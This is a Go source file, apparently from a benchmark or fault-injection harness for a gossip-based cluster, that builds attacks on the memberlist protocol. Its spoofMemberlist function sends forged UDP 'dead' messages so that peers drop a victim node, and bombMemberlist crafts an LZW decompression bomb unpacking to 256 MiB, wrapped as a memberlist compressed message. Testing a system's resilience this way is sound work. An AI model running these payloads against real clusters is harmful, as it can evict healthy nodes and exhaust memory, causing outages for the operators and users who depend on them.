package rows

import (
	"bytes"
	"compress/lzw"
	"context"
	"encoding/binary"
	"io"
	"net"

	"github.com/gotribes/tribes/internal/bench/fleet"
)

// Types of memberlist's messages, which are the first byte of each.
const (
	typeDead     = 5
	typeCompress = 9
)

// spoofMemberlist tells each of some members in one datagram that another one has left.
func spoofMemberlist(_ context.Context, _ *fleet.Fleet, to []*fleet.Node, victim *fleet.Node) (end func(), err error) {
	for _, n := range to {
		c, err := net.Dial("udp", n.Address)
		if err != nil {
			return nil, err
		}
		if _, err := c.Write(leftDatagram(victim.Name)); err != nil {
			return nil, err
		}
		c.Close()
	}
	return func() {}, nil
}

// leftDatagram is a MessagePack map in memberlist's form: a node that itself says that it is dead has left.
func leftDatagram(name string) []byte {
	b := []byte{typeDead, 0x83}
	b = append(text(b, "Incarnation"), 9)
	b = text(text(b, "Node"), name)
	return text(text(b, "From"), name)
}

// text appends a short string of MessagePack.
func text(b []byte, s string) []byte { return append(append(b, 0xa0|byte(len(s))), s...) }

// bombMemberlist sends compressed blocks that unpack to 256 MiB, all at once.
func bombMemberlist(ctx context.Context, address string) error {
	bomb := memberlistBomb(256 << 20)
	return bombard(ctx, address, func(c net.Conn) {
		if _, err := c.Write(bomb); err == nil {
			io.Copy(io.Discard, c) // until it answers or hangs up
		}
	})
}

func memberlistBomb(size int64) []byte {
	var packed bytes.Buffer
	w := lzw.NewWriter(&packed, lzw.LSB, 8)
	io.CopyN(w, zeros{}, size)
	w.Close()
	b := []byte{typeCompress, 0x82}
	b = append(text(b, "Algo"), 0)
	b = append(text(b, "Buf"), 0xdb) // a long string, as old writers of MessagePack have it for bytes
	b = binary.BigEndian.AppendUint32(b, uint32(packed.Len()))
	return append(b, packed.Bytes()...)
}

type zeros struct{}

func (zeros) Read(p []byte) (int, error) {
	clear(p)
	return len(p), nil
}
